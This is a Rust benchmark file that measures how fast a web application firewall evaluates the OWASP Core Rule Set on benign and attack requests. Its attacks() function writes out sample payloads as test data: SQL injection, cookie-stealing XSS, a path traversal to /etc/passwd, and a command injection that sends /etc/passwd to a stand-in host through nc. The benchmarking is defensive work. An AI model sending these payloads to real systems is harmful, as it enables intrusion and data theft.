//! Transactions per second through the full OWASP CRS (Debian's 3.3.4) at paranoia levels 1
//! and 4, for a benign and an attack request mix, in blocking mode.
//!
//!     cargo bench -p qalxan-waf --bench crs
//!
//! bench/waf-peer.sh measures libmodsecurity 3 on the same rules and requests.

#![allow(clippy::unwrap_used)] // A benchmark that cannot set up should stop loudly.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use qalxan_waf::{Plan, Request, Transaction};
use std::path::Path;

const RULES: &str = "/usr/share/modsecurity-crs/rules";
const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";

fn plan(paranoia: u8) -> Plan {
    let before = "SecRuleEngine On\nSecRequestBodyAccess On\n";
    let after = format!(
        "SecAction \"id:900100,phase:1,nolog,pass,setvar:tx.paranoia_level={paranoia},setvar:tx.executing_paranoia_level={paranoia}\"\n"
    );
    qalxan_waf::regression::load_crs(before, Path::new(SETUP), &after, Path::new(RULES)).unwrap()
}

fn request(method: &str, uri: &str, body: &str) -> Request {
    let mut headers = vec![
        ("Host".to_owned(), b"www.example.gov".to_vec()),
        (
            "User-Agent".to_owned(),
            b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".to_vec(),
        ),
        (
            "Accept".to_owned(),
            b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8".to_vec(),
        ),
        ("Accept-Language".to_owned(), b"en-US,en;q=0.5".to_vec()),
        ("Accept-Encoding".to_owned(), b"gzip, deflate, br".to_vec()),
        (
            "Cookie".to_owned(),
            b"session=8f14e45fceea167a5a36dedd4bea2543; lang=en".to_vec(),
        ),
        ("Connection".to_owned(), b"keep-alive".to_vec()),
    ];
    if !body.is_empty() {
        headers.push((
            "Content-Type".to_owned(),
            b"application/x-www-form-urlencoded".to_vec(),
        ));
        headers.push((
            "Content-Length".to_owned(),
            body.len().to_string().into_bytes(),
        ));
    }
    Request {
        method: method.as_bytes().to_vec(),
        uri: uri.as_bytes().to_vec(),
        protocol: b"HTTP/1.1".to_vec(),
        headers,
        body: body.as_bytes().to_vec(),
        remote_addr: "198.51.100.7".into(),
        remote_port: 51234,
        server_addr: "192.0.2.10".into(),
        server_port: 443,
    }
}

/// The request mixes, shared with bench/waf-peer.sh through bench/requests.txt.
pub fn benign() -> Vec<Request> {
    vec![
        request("GET", "/", ""),
        request(
            "GET",
            "/news/2026/11/budget-hearing.html?page=2&sort=date",
            "",
        ),
        request("GET", "/static/css/site.min.css?v=4.2.1", ""),
        request(
            "POST",
            "/search",
            "q=public+procurement+rules&year=2026&lang=en",
        ),
    ]
}

pub fn attacks() -> Vec<Request> {
    vec![
        request("GET", "/item.php?id=1%27%20OR%20%271%27%3D%271", ""),
        request(
            "GET",
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
            "",
        ),
        request("GET", "/download.php?file=..%2F..%2F..%2Fetc%2Fpasswd", ""),
        request(
            "POST",
            "/contact",
            "name=x&msg=%3Bcat+%2Fetc%2Fpasswd%7Cnc+198.51.100.1+4444",
        ),
    ]
}

fn bench(c: &mut Criterion) {
    if !Path::new(RULES).is_dir() {
        eprintln!("SKIPPED: Debian's modsecurity-crs is not installed");
        return;
    }
    for paranoia in [1, 4] {
        let plan = plan(paranoia);
        for (name, mix) in [("benign", benign()), ("attack", attacks())] {
            let mut group = c.benchmark_group(format!("crs_pl{paranoia}_{name}"));
            group.throughput(Throughput::Elements(mix.len() as u64));
            group.bench_function("transactions", |b| {
                b.iter(|| {
                    for r in &mix {
                        let mut tx = Transaction::evaluate_request(&plan, r);
                        tx.finish();
                        std::hint::black_box(tx.interruption.is_some());
                    }
                })
            });
            group.finish();
        }
        // A benign GET alone: the figure the issue sets a bound on.
        c.bench_function(&format!("crs_pl{paranoia}_benign_get"), |b| {
            let r = request(
                "GET",
                "/news/2026/11/budget-hearing.html?page=2&sort=date",
                "",
            );
            b.iter(|| {
                let mut tx = Transaction::evaluate_request(&plan, &r);
                tx.finish();
                std::hint::black_box(tx.interruption.is_some());
            })
        });
    }
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20).measurement_time(std::time::Duration::from_secs(5));
    targets = bench
}
criterion_main!(benches);
